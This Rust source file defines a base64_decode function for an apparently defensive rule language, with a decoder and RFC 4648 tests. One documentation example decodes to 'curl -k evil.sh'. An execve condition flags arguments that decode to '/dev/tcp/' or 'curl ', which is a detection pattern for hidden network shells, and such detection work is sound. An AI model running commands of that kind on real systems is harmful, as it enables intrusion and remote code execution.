//! `base64_decode(s)`.

use super::{Answer, Argument, Evaluation, Example, Function, Sample, text};
use crate::types::Type;

pub(super) static BASE64_DECODE: Function = Function {
    name: "base64_decode",
    doc: "The bytes that a string of Base64 stands for. Both alphabets are taken (`+/` and `-_`), white \
          space is passed over, and the `=` at the end may be missing: what `base64 -d` and its like \
          accept.",
    parameters: &[text("s")],
    result: Type::String,
    edges: "It is absent if the string is not Base64 as a whole; `base64_decode(s) exists` asks. What \
            it gives may have any bytes, also NUL.",
    examples: &[
        Example {
            arguments: &[Sample::Text("Y3VybCAtayBldmlsLnNo")],
            gives: Some(Sample::Text("curl -k evil.sh")),
        },
        Example {
            arguments: &[Sample::Text("c2g=")],
            gives: Some(Sample::Text("sh")),
        },
        Example {
            arguments: &[Sample::Text("not base64!")],
            gives: None,
        },
    ],
    conditions: &[(
        "execve",
        r#"any a in argv { base64_decode(a) contains ["/dev/tcp/", "curl "] }"#,
    )],
    evaluation: Evaluation::Values(evaluate),
    is_part: false,
    any_bytes: true,
    ignores: &["trim"],
    impossible: super::possible,
};

fn evaluate<'a>(arguments: &mut [Argument<'a, '_>], made: &mut Vec<u8>) -> Answer<'a> {
    match arguments {
        [Argument::Bytes(text)] if decode(text, made).is_some() => Answer::Made,
        _ => Answer::Absent,
    }
}

/// Crates that decode Base64 want either no white space or a copy without it; this needs neither.
fn decode(text: &[u8], made: &mut Vec<u8>) -> Option<()> {
    let (mut bits, mut pending, mut padding) = (0u32, 0u32, 0);
    for byte in text {
        let digit = match byte {
            b'A'..=b'Z' => byte - b'A',
            b'a'..=b'z' => byte - b'a' + 26,
            b'0'..=b'9' => byte - b'0' + 52,
            b'+' | b'-' => 62,
            b'/' | b'_' => 63,
            b'=' => {
                padding += 1;
                continue;
            }
            byte if byte.is_ascii_whitespace() => continue,
            _ => return None,
        };
        if padding > 0 {
            return None;
        }
        bits = bits << 6 | u32::from(digit);
        pending += 6;
        if pending >= 8 {
            pending -= 8;
            made.push((bits >> pending) as u8); // the byte that is complete now
        }
    }
    // One digit by itself is no byte; two and three lack as many `=`, if any are written.
    let right = match pending {
        0 => padding == 0,
        4 => matches!(padding, 0 | 2),
        2 => padding <= 1,
        _ => false,
    };
    right.then_some(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn decoded(text: &str) -> Option<Vec<u8>> {
        let mut made = Vec::new();
        decode(text.as_bytes(), &mut made).map(|()| made)
    }

    #[test]
    fn the_vectors_of_rfc_4648() {
        for (plain, encoded) in [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("foob", "Zm9vYg=="),
            ("fooba", "Zm9vYmE="),
            ("foobar", "Zm9vYmFy"),
        ] {
            assert_eq!(decoded(encoded).unwrap(), plain.as_bytes());
            assert_eq!(
                decoded(encoded.trim_end_matches('=')).unwrap(),
                plain.as_bytes()
            );
        }
    }

    #[test]
    fn both_alphabets_and_broken_lines_are_taken() {
        assert_eq!(decoded("+/-_").unwrap(), [0xfb, 0xff, 0xbf]);
        assert_eq!(decoded("Zm9v\nYmFy\n").unwrap(), b"foobar");
        assert_eq!(decoded("AGE").unwrap(), b"\0a");
    }

    #[test]
    fn what_is_not_base64_is_absent() {
        for text in ["Z", "Zm9vY", "Zg=", "Zm8==", "Zm9v=", "Z=g=", "Zm9v!", "="] {
            assert_eq!(decoded(text), None, "{text}");
        }
    }
}
